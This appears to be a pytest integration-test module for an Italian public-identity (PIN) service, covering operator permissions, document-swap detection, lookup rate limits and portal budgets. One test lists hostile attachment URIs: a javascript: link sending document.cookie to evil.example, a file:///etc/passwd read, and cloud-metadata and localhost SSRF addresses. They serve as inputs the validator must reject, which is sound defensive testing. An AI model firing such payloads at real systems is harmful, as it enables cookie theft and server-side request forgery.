"""Whoever sits at a console, or holds a portal, does no more than it may: an attacker's tries, real servers.

Operators are persons, bound to what they saw; attachments lead nowhere; a session fills no account.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any

import pytest

from deploy.local.captured import Captured
from deploy.local.client import Client
from deploy.local.inbox import Body
from deploy.local.stack import Stack
from tests.adversity.dead_letters import parked
from tests.integration.test_dispositivo import DOCUMENT, FILE, OPERATOR, mails_to, papers
from tests.kit.clients import operator, portal
from tests.kit.logs import WorkerLog
from tests.kit.seeding import accounts, active_citizens
from tests.kit.waiting import until

WORKERS = 2
BRANCH = {"id": "op-0107", "office": "Sede di Pisa"}
LAST_MINUTE = 59
PASSWORD = "of-a-test"


def start(stack: Stack, **settings: str) -> None:
    stack.settings |= {"PIN_DISPOSITIVO_DELAY": "PT1H", **settings}
    stack.start_worker("dispositivo", copies=WORKERS)


@asynccontextmanager
async def console(stack: Stack, user: str) -> AsyncIterator[Client]:
    """Yield the console of a further broker user, made as docs/operations.md says."""
    own = rf"(amq\.gen-.*|(reply|events)\.{user}\..*"
    stack.rabbitmq.ctl("add_user", user, PASSWORD)
    try:
        stack.rabbitmq.ctl(
            "set_permissions", user, f"^{own})$", rf"^{own}|pin\.commands)$", rf"^{own}|pin\.events)$"
        )
        stack.rabbitmq.ctl("set_topic_permissions", user, "pin.commands", ".*", "^$")
        url = stack.rabbitmq.url("operator").replace("operator:", f"{user}:", 1)
        known = url.partition("//")[2].partition("@")[0]
        one = Client(url.replace(known, f"{user}:{PASSWORD}"), user)
        one.listens = True
        async with one:
            yield one
    finally:
        stack.rabbitmq.ctl("delete_user", user)


async def asked(at_home: Client, citizen: str) -> str:
    """Ask for the profile; return the request's id."""
    reply = await at_home.ask("dispositivo.request", {"codice_fiscale": citizen, "submission": "online"})
    return str(reply["data"]["request_id"])


async def shown(at_centre: Client) -> dict[str, Any]:
    reply = await at_centre.ask("dispositivo.review_queue", {"operator": OPERATOR, "limit": 10})
    (request,) = reply["data"]["requests"]
    return dict(request)


def entries(stack: Stack, kind: str) -> list[dict[str, Any]]:
    """Return actor and data of the entries of a kind, oldest first."""
    query = (
        "select json_build_object('kind', kind, 'actor', actor, 'data', data::json) from entry order by at"
    )
    rows = [json.loads(row) for row in stack.postgres.sql(query, stack.database).splitlines()]
    return [row for row in rows if row["kind"] == kind]


def alarms(stack: Stack, name: str) -> list[dict[str, Any]]:
    """Return the alarms of one name that the dispositivo workers logged in this ledger's time."""
    logs = (LOGS[stack.database, number] for number in range(WORKERS))
    return [line for log in logs for line in log.lines("alarm.raised") if line["alarm"] == name]


LOGS: dict[tuple[str, int], WorkerLog] = {}


@pytest.fixture(autouse=True)
def _logs(stack: Stack) -> None:
    for number, name in enumerate(("dispositivo", "dispositivo.2")):
        LOGS[stack.database, number] = WorkerLog(stack, name)


async def _early_in_the_hour() -> None:
    """Wait out the last minute of an hour: the limits are of the clock's hours."""
    await until(lambda: datetime.now(UTC).minute < LAST_MINUTE, "a new hour", limit=70)


async def test_the_contact_centre_does_nothing_at_a_branch_and_the_branch_nothing_there(stack: Stack) -> None:
    """R25, R26: the broker lets both publish both; what is not theirs goes to pin.dead."""
    (citizen,) = await active_citizens(stack, 1)
    person: Body = {"codice_fiscale": citizen}
    roles = {"PIN_OPERATOR_USERS": "", "PIN_CONTACT_CENTRE_USERS": "phones", "PIN_BRANCH_USERS": "pisa"}
    start(stack, **roles)
    activate = {**person, "operator": BRANCH, "document": DOCUMENT}
    async with console(stack, "phones") as phones, console(stack, "pisa") as pisa, portal(stack) as at_home:
        request_id = await asked(at_home, citizen)
        await at_home.ask("dispositivo.submit_documents", papers(citizen, request_id))
        decide = {**person, "request_id": request_id, "operator": OPERATOR}
        await phones.publish("branch.lookup", {**person, "operator": BRANCH})
        await phones.publish("branch.activate", activate)
        await pisa.publish("dispositivo.review_queue", {"operator": OPERATOR, "limit": 10})
        await pisa.publish("dispositivo.approve", decide)
        await pisa.publish("dispositivo.cancel", {**decide, "reason": "mismatch", "note": ""})
        fax = papers(citizen, request_id) | {"via": "fax"}
        await pisa.publish("dispositivo.submit_documents", fax)
        found: list[tuple[str, str, bytes]] = []

        async def all_dead() -> bool:
            found.extend(await parked(stack))
            return len(found) == 6

        await until(all_dead, "six dead letters")
        assert {reason for reason, _, _ in found} == {"forbidden_sender"}
        (account,) = await accounts(stack)
        assert (account.level, account.dispositivo is not None) == ("online", True)
        assert not entries(stack, "personal_data.seen")
        # Each does its own.
        assert (await shown(phones))["codice_fiscale"] == citizen
        seen = (await pisa.ask("branch.lookup", {**person, "operator": BRANCH}))["data"]["seen"]
        assert (await pisa.ask("branch.activate", {**activate, "seen": seen}))["code"] == "accepted"
    looks = entries(stack, "personal_data.seen")
    assert [(look["actor"], look["data"]["user"], look["data"]["office"]) for look in looks] == [
        ("operator:op-0042", "phones", "Contact Center"),
        ("operator:op-0107", "pisa", "Sede di Pisa"),
    ]
    (activated,) = entries(stack, "dispositivo.activated")
    assert (activated["actor"], activated["data"]["user"], activated["data"]["seen"]) == (
        "operator:op-0107",
        "pisa",
        seen,
    )


async def test_documents_swapped_behind_an_operator_s_back_are_not_approved(stack: Stack) -> None:
    """R25: the attacker shows a good document, and replaces it before the approval."""
    (citizen,) = await active_citizens(stack, 1)
    start(stack)
    forged = FILE | {"sha256": "f" * 64}
    async with portal(stack) as at_home, operator(stack) as at_centre:
        request_id = await asked(at_home, citizen)
        await at_home.ask("dispositivo.submit_documents", papers(citizen, request_id))
        seen = (await shown(at_centre))["seen"]
        await at_home.ask(
            "dispositivo.submit_documents", papers(citizen, request_id) | {"document_scan": forged}
        )
        decide = {"codice_fiscale": citizen, "request_id": request_id, "operator": OPERATOR}
        reply = await at_centre.ask("dispositivo.approve", {**decide, "seen": seen})
        assert reply["code"] == "changed_since_seen"
        (account,) = await accounts(stack)
        assert account.dispositivo is not None
        assert account.dispositivo.approved_at is None
        again = await shown(at_centre)
        assert again["document_scan"]["sha256"] == "f" * 64
        decisions = [
            ("dispositivo.approve", {**decide, "seen": again["seen"]}),
            ("dispositivo.cancel", {**decide, "seen": again["seen"], "reason": "mismatch", "note": ""}),
        ]
        replies = await asyncio.gather(*(at_centre.ask(type_, body) for type_, body in decisions))
        assert sorted(reply["code"] for reply in replies) == ["accepted", "changed_since_seen"]


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:fetch('https://evil.example/'+document.cookie)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "https://169.254.169.254/latest/meta-data/iam/",
        "https://0xa9fea9fe/latest/",
        "https://[::ffff:127.0.0.1]/",
        "https://portal.example@metadata.google.internal/",
        "https://LOCALHOST./",
    ],
)
async def test_no_attachment_leads_a_console_where_it_should_not_go(stack: Stack, uri: str) -> None:
    """R24, R25: neither field; nothing enters the queue."""
    (citizen,) = await active_citizens(stack, 1)
    start(stack)
    async with portal(stack) as at_home, operator(stack) as at_centre:
        request_id = await asked(at_home, citizen)
        for field in ("signed_form", "document_scan"):
            body = papers(citizen, request_id) | {field: FILE | {"uri": uri}}
            reply = await at_home.ask("dispositivo.submit_documents", body)
            assert reply["code"] == "invalid"
            assert [(fault["field"], fault["code"]) for fault in reply["errors"]] == [
                (f"{field}.uri", "uri_not_allowed")
            ]
        queue = await at_centre.ask("dispositivo.review_queue", {"operator": OPERATOR, "limit": 10})
        assert queue["data"] == {"requests": []}


async def test_who_harvests_citizens_at_a_counter_is_noticed_and_can_be_stopped(stack: Stack) -> None:
    """R26: over two workers, and over a restart of both."""
    citizens = await active_citizens(stack, 12)
    start(stack, PIN_LOOKUPS_AN_HOUR="5", PIN_LOOKUPS_REFUSED_AFTER="8")
    await _early_in_the_hour()
    async with operator(stack) as at_counter:
        looks = [{"codice_fiscale": citizen, "operator": BRANCH} for citizen in citizens]
        replies = await asyncio.gather(*(at_counter.ask("branch.lookup", look) for look in looks))
        codes = sorted(reply["code"] for reply in replies)
        assert codes == ["accepted"] * 8 + ["too_many_lookups"] * 4
        assert [reply["data"] for reply in replies if reply["code"] != "accepted"] == [{}] * 4
        stack.stop_workers()
        stack.start_worker("dispositivo", copies=WORKERS)
        assert (await at_counter.ask("branch.lookup", looks[0]))["code"] == "too_many_lookups"
        queue = {"operator": BRANCH, "limit": 10}
        assert (await at_counter.ask("dispositivo.review_queue", queue))["code"] == "too_many_lookups"
        colleague = {**looks[0], "operator": {**BRANCH, "id": "op-0108"}}
        assert (await at_counter.ask("branch.lookup", colleague))["code"] == "accepted"
    (alarm,) = alarms(stack, "operator.looked_often")
    assert (alarm["operator"], alarm["user"], alarm["lookups"]) == ("op-0107", "operator", 6)
    assert len(entries(stack, "personal_data.seen")) == 9
    assert stack.postgres.sql("select sum(looks) from lookup", stack.database).strip() == "15"


async def test_old_hours_are_forgotten(stack: Stack) -> None:
    """By any worker; today's still count."""
    stack.postgres.sql(
        "insert into lookup select now() - n * interval '1 hour', 'operator', 'op-' || n, 1"
        " from generate_series(1, 2500) as n",
        stack.database,
    )
    start(stack)
    query = "select count(*) from lookup"
    await until(lambda: int(stack.postgres.sql(query, stack.database)) in {23, 24}, "the old hours gone")


async def test_a_session_that_sends_istanze_without_end_fills_neither_mailbox_nor_account(
    stack: Stack,
) -> None:
    """R31, R32: one mail, as many istanze as may be, each with its first protocol, and all released."""
    (citizen,) = await active_citizens(stack, 1)
    start(stack, PIN_SUSPENDED_ISTANZE="20")
    stack.start_workers(["notifier-email"])
    async with portal(stack) as at_home, operator(stack) as at_branch:
        bodies = [
            {"codice_fiscale": citizen, "istanza_id": f"i-{number}", "service": "Pensione"}
            for number in range(30)
        ]
        replies = await asyncio.gather(*(at_home.ask("istanza.submit", body) for body in bodies))
        suspended = [reply for reply in replies if reply["code"] == "accepted"]
        assert [reply["code"] for reply in replies].count("too_many_suspended") == 10
        assert len(suspended) == 20
        assert all(reply["data"]["notice"] for reply in suspended)
        first = next(number for number, reply in enumerate(replies) if reply["code"] == "accepted")
        again = await at_home.ask("istanza.submit", bodies[first])
        assert again["data"]["protocol"] == replies[first]["data"]["protocol"]
        await until(lambda: mails_to(stack, citizen), "the mail about the first")
        due = "select count(*) from outbox where due_at > now() + interval '20 seconds'"
        assert stack.postgres.sql(due, stack.database).strip() == "1", "the message of the end of the day"
        activate = {"codice_fiscale": citizen, "operator": BRANCH, "document": DOCUMENT}
        assert (await at_branch.ask("branch.activate", activate))["code"] == "accepted"
        await until(lambda: len(entries(stack, "istanza.released")) == 20, "all released")
        await until(lambda: len(mails_to(stack, citizen)) == 3, "first, activated, released")
        assert len(Captured(stack.state).mails()) == 3
        assert sum(
            reply["data"]["protocol"] in mail for reply in suspended for mail in mails_to(stack, citizen)[-2:]
        ) in {20, 21}


async def test_a_portal_over_its_budget_is_told_of_and_every_citizen_served(stack: Stack) -> None:
    citizens = await active_citizens(stack, 30)
    start(stack, PIN_BUDGET_PER_PORTAL_USER="10")
    await _early_in_the_hour()
    async with portal(stack) as at_home:
        bodies = [{"codice_fiscale": citizen, "submission": "online"} for citizen in citizens]
        replies = await asyncio.gather(*(at_home.ask("dispositivo.request", body) for body in bodies))
        assert {reply["code"] for reply in replies} == {"accepted"}
        await until(lambda: alarms(stack, "portal.over_budget"), "the alarm")
    raised = alarms(stack, "portal.over_budget")
    assert 1 <= len(raised) <= WORKERS, "each process counts what came to it, and tells once"
    assert {(alarm["user"], alarm["lane"]) for alarm in raised} == {("portal", "dispositivo")}
